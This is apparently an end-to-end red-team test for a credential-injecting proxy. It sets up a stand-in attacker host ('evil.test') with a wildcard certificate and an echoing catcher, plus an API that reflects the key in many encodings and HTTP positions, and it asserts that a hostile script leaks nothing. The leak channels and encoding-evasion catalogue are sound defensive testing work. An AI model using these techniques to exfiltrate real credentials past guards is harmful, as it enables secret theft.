"""A hostile program under `run`, by way of the network alone (G5, PX-02 to PX-24): redteam_network.py asks the proxy for
everything that could send the credential to somebody else or bring it back; a catcher with a certificate of its own and
an API that reflects what it gets, in each encoding and place, stand for the worst. Nothing may be got or caught."""
import test_addresses  # a namespace of its own, with a name server and addresses that look public
import gzip, html, http.client, io, socket, ssl, types, zlib
from harness import *
from test_addresses import NameServer, PUBLIC, SECOND, namespace


class Names(dict):
    """Every name below .test is the attacker's, but for what is said otherwise."""

    def __contains__(self, name):
        return super().__contains__(name) or name.endswith(".test") or name == "test"

    def __missing__(self, name):
        return [[SECOND]]


def certificate(world, name, *names):
    d = world.directory
    (d / f"{name}.ext").write_text("subjectAltName=" + ",".join(f"DNS:{n}" if not n[0].isdigit() else f"IP:{n}" for n in names) + "\nextendedKeyUsage=serverAuth\n")
    for arguments in (["req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", d / f"{name}.key", "-out", d / f"{name}.csr", "-subj", f"/CN={name}"],
                      ["x509", "-req", "-in", d / f"{name}.csr", "-CA", world.ca_file, "-CAkey", d / "ca.key", "-days", "2", "-extfile", d / f"{name}.ext", "-out", d / f"{name}.pem"]):
        subprocess.run(["openssl", *map(str, arguments)], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(d / f"{name}.pem", d / f"{name}.key")
    return context


class Listener(threading.Thread):
    """Keeps the head and some of the body of whatever comes, and answers by `answer(head)`."""

    def __init__(self, world, address, port, context, answer):
        super().__init__(daemon=True)
        self.context, self.answer, self.seen = context, answer, []
        self.socket = socket.create_server((address, port), backlog=128)
        world.closing.append(self.socket.close)
        self.start()

    def run(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()

    def serve(self, connection):
        with contextlib.suppress(OSError, ValueError):
            connection.settimeout(30)
            if self.context:
                connection = self.context.wrap_socket(connection, server_side=True)
            with connection:
                data = b""
                while b"\r\n\r\n" not in data and (piece := connection.recv(65536)):
                    data += piece
                self.seen.append(data)
                for part in self.answer(data.decode("latin-1")):
                    connection.sendall(part)


def encoded(how, secret):
    raw = secret.encode()
    plain, _, shift = how.partition("+")
    padded = b"x" * int(shift or 0) + raw
    return {
        "raw": lambda: secret, "base64": lambda: base64.b64encode(padded).decode(), "base64url": lambda: base64.urlsafe_b64encode(padded).decode(), "hex": raw.hex, "HEX": lambda: raw.hex().upper(),
        "percent": lambda: "".join(f"%{b:02X}" for b in raw), "percent-lower": lambda: "".join(f"%{b:02x}" for b in raw), "json": lambda: json.dumps({"key": secret}),
        "json-unicode": lambda: '"' + "".join(f"\\u{b:04x}" for b in raw) + '"', "html": lambda: "".join(f"&#{b};" for b in raw), "html-hex": lambda: "".join(f"&#x{b:X};" for b in raw),
        "html-padded": lambda: "".join(f"&#{b:07};" for b in raw), "percent-twice": lambda: "".join(f"%25{b:02X}" for b in raw), "percent-u": lambda: "".join(f"%u{b:04X}" for b in raw),
        "js-hex": lambda: "".join(f"\\x{b:02x}" for b in raw), "octal": lambda: "".join(f"\\{b:03o}" for b in raw), "mixed": lambda: "".join((chr(b), f"%{b:02X}", f"&#{b};", f"\\u{b:04x}")[n % 4] for n, b in enumerate(raw)),
        "utf-16": lambda: "".join(f"{chr(b)}\0" for b in raw), "base64-lines": lambda: "\r\n".join(base64.encodebytes(padded).decode().split()),
        "html-named": lambda: html.escape(secret).replace("_", "&lowbar;"), "basic": lambda: "Basic " + base64.b64encode(b"user:" + raw).decode(),
        "link": lambda: f'<a href="https://evil.test/?k={urllib.parse.quote(secret, safe="")}">',
    }[plain]()


# What the API encodes the key by; the red team asks for these.
SPELLINGS = [*(f"{how}+{shift}" for how in ("base64", "base64url") for shift in range(3)), "raw", "hex", "HEX", "percent", "percent-lower", "percent-twice", "percent-u", "json", "json-unicode", "js-hex", "octal",
             "html", "html-hex", "html-padded", "html-named", "basic", "mixed", "utf-16", "base64-lines"]


def spelt_in(key, data):
    """The spellings of the key, as the API spelt it, that are in what came; chunked or not, and as JSON text tells it."""
    readings = [data, re.sub(rb"\r\n[0-9a-fA-F]+\r\n", b"", data)]
    with contextlib.suppress(ValueError):
        readings += [json.dumps(json.loads(data), ensure_ascii=False).encode(), data.replace(b"\\\\", b"\\").replace(b"\\r\\n", b"\r\n").replace(b"\\u0000", b"\0")]
    needles = [(how, encoded(how, secret).strip('"').encode()) for how in SPELLINGS for secret in (f"Bearer {key}", key)]
    return sorted({how for how, needle in needles if any(needle in reading for reading in readings)})


def filtered_by(*command):
    return lambda data: subprocess.run(command, input=data, capture_output=True, check=True).stdout


def inverted(data):
    return bytes(255 - byte for byte in data)


# Content codings (RFC 9110 section 8.4.1): what codes, and what takes it off again. "own" is nobody's.
CODINGS = {"gzip": (gzip.compress, gzip.decompress), "deflate": (zlib.compress, zlib.decompress), "br": (filtered_by("brotli", "-c"), filtered_by("brotli", "-dc")),
           "zstd": (filtered_by("zstd", "-qc"), filtered_by("zstd", "-qdc")), "own": (inverted, inverted),
           "gzip, gzip": (lambda data: gzip.compress(gzip.compress(data)), lambda data: gzip.decompress(gzip.decompress(data)))}


def answer_of(got):
    """The status and the body of what came behind the answer to CONNECT."""
    response = http.client.HTTPResponse(types.SimpleNamespace(makefile=lambda *_: io.BytesIO(got.partition(b"\r\n\r\n")[2])))
    response.begin()
    return response.status, response.read()


def sized(status, body, *lines):
    return ("\r\n".join([f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", "Connection: close", *lines, "", ""])).encode("latin-1") + body


class Reflector:
    """An API that gives back the key it was called with, where and how the query says. Counts what it really sent."""

    def __init__(self):
        self.called, self.reflected, self.coded = 0, 0, set()

    def __call__(self, head):
        target = head.split(" ")[1] if " " in head else ""
        query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(target).query))
        found = re.search(r"(?im)^x-key: (.*?)\r$", head)
        secret = found[1] if found else ""
        self.called += bool(secret)
        if target.startswith("/redirect"):
            yield sized(f"{query['code']} Moved", b"", f"Location: {query['to']}?k={secret}", f"Set-Cookie: k={secret}")
            return
        self.reflected += bool(secret)
        what, where = encoded(query.get("as", "raw"), secret), query.get("where", "body")
        yield from self.parts(where, what, query.get("coding"))

    def parts(self, where, what, coding):
        text = f"before {what} after".encode()
        if where == "chunks":
            yield b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            for at in range(0, len(text), 5):
                piece = text[at:at + 5]
                yield b"%x\r\n%s\r\n" % (len(piece), piece)
            yield b"0\r\n\r\n"
        elif where == "bytes":
            yield b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(text)
            for at in range(0, len(text), 7):
                yield text[at:at + 7]
        elif where == "coded":
            data = CODINGS[coding][0](text)
            self.coded.add(coding)
            yield sized("200 OK", data, f"Content-Encoding: {coding}")
        elif where == "trailer":
            yield b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Copy\r\n\r\n2\r\nok\r\n0\r\nX-Copy: " + what.encode() + b"\r\n\r\n"
        elif where == "interim":
            yield b"HTTP/1.1 103 Early Hints\r\nLink: <https://evil.test/" + what.encode() + b">\r\n\r\n"
            yield sized("200 OK", b"ok")
        elif where == "multipart":
            yield sized("206 Partial Content", b"--x\r\nContent-Range: bytes 0-1/2\r\n\r\n" + text + b"\r\n--x--", "Content-Type: multipart/byteranges; boundary=x")
        elif where == "upgrade":
            yield b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: ICX+Yqv66kxgM0FcWaLWlFLwTAI=\r\n\r\n\x81" + bytes([min(125, len(text))]) + text
        elif where.startswith("grpc"):  # told by its type alone, and by a frame as gRPC has it
            kind = {"grpc": "application/grpc", "grpc-proto": "application/grpc+proto", "grpc-web": "application/grpc-web+proto", "grpc-text": "application/grpc-web-text"}[where]
            yield sized("200 OK", b"\0" + len(text).to_bytes(4, "big") + text, f"Content-Type: {kind}")
        else:
            line = {"header": f"X-Copy: {what}", "location": f"Location: https://evil.test/?k={what}", "cookie": f"Set-Cookie: k={what}; Path=/", "split": f"X-Copy: a\nX-More: {what}"}.get(where, "X-None: 1")
            status = {"reason": f"200 {what}", "error": "500 Broken"}.get(where, "200 OK")
            yield sized(status, text if where in ("body", "error") else b"ok", line)


def setting(world):
    names = namespace(world)
    names.names = Names({"api.acme.test": [[PUBLIC]], "flip.acme.test": [[SECOND], ["127.0.0.1"], [PUBLIC], ["169.254.169.254"]]})
    world.certificates()
    api = certificate(world, "api", "api.acme.test", "flip.acme.test")
    evil = certificate(world, "evil", "evil.test", "*.evil.test", "*.test", "test", SECOND)  # what an attacker can have
    reflector = Reflector()
    servers = [Listener(world, PUBLIC, 443, api, reflector), Listener(world, PUBLIC, 8443, api, reflector), Listener(world, PUBLIC, 80, None, reflector)]
    catchers = [Listener(world, SECOND, port, context, lambda head: [sized("200 OK", head.encode("latin-1"))]) for port, context in ((443, evil), (80, None), (8443, evil))]
    hosts = ["api.acme.test", "flip.acme.test", "stolen.acme.test"]
    world.run("register", world.definition("acme", auth_type="api_key", flow="api_key", api_url=[f"https://{host}/" for host in hosts],
                                           api_key={"header_name": "X-Key"}, export={"env": {"api_key": "ACME_KEY"}}), "--yes")
    key = world.canaries.new("key", "sk_")  # with a character that HTML has a name for
    world.run("login", "acme", "--input", "stdin", stdin=key)
    return key, reflector, servers, catchers


def attack(world, *options):
    done = world.run("run", *options, "--", "python3", "-B", ROOT / "tests/e2e/redteam_network.py", timeout=400, secret_output=True)
    return {name: base64.b64decode(got) for name, got in json.loads(done.stdout.splitlines()[-1]).items()}


def no_coding_hides_it(key, got):
    """What is coded shows no key as it is, so the bodies are read as a program would read them that got them coded."""
    for coding, (_, take_off) in CODINGS.items():
        status, body = answer_of(got[f"echo coded {coding}"])
        readings = [body]
        with contextlib.suppress(OSError, EOFError, zlib.error, subprocess.CalledProcessError):
            readings.append(take_off(body))
        check(not [reading for reading in readings if key.encode() in reading], f"{coding}: got {readings}")
        if coding in ("gzip", "deflate"):  # which are taken off here
            equal((status, body), (200, b"before Bearer " + b"*" * len(key) + b" after"), coding)
        else:
            equal((status, json.loads(body)["reason"]), (502, "coded_answer"), coding)


def nothing_is_got_and_nothing_is_caught(world):
    for tool in ("brotli", "zstd"):
        check(shutil.which(tool), f"{tool} is not installed")
    for code, take_off in CODINGS.values():
        equal(take_off(code(b"a" * 1000)), b"a" * 1000, "a coding")
    key, reflector, servers, catchers = setting(world)
    for how in SPELLINGS:  # what is looked for would be found: in a body, in chunks, in what the client of HTTP/2 prints
        body = b"".join(reflector.parts("chunks", encoded(how, f"Bearer {key}"), None))
        for data in (body, json.dumps({"text": encoded(how, f"Bearer {key}")}).encode()):
            check(spelt_in(key, data), f"{how} would not be found in {data}")
    for options in ((), ("--unmatched", "deny"), ("--no-sandbox",)):
        before = reflector.called, reflector.reflected
        got = attack(world, *options)
        check(len(got) >= 200, f"only {len(got)} techniques were tried")
        found = {name: hits for name, data in got.items() if (hits := world.canaries.find_in(data) + spelt_in(key, data))}
        check(not found, f"{len(found)} techniques of {len(got)} got a secret: {dict(list(found.items())[:20])}")
        called, reflected = reflector.called - before[0], reflector.reflected - before[1]
        check(called >= 300 and reflected >= 280, f"the attempts were real: the API was called {called} times with the key and gave it back {reflected} times")
        no_coding_hides_it(key, got)
        over_http2 = [name for name, data in got.items() if name.endswith(" over h2") and b'"status":200' in data and b"***" in data]
        check(len(over_http2) >= 80, f"only {len(over_http2)} of those over HTTP/2 were answered with the reflection overwritten: {over_http2}")
        print(f"      {' '.join(options) or 'unmatched allow'}: {len(got)} techniques, the API gave the key back {reflected} times, none arrived")
    for catcher in catchers:
        for data in catcher.seen:
            check(not world.canaries.find_in(data), f"caught: {data[:300]!r}")
    check(sum(len(catcher.seen) for catcher in catchers) > 0, "the catcher was reached, without a credential")
    equal(reflector.coded, set(CODINGS), "each coding was sent")
    check(not [data for data in servers[2].seen if key.encode() in data], "the key went over plain http")


if __name__ == "__main__":
    main(nothing_is_got_and_nothing_is_caught)
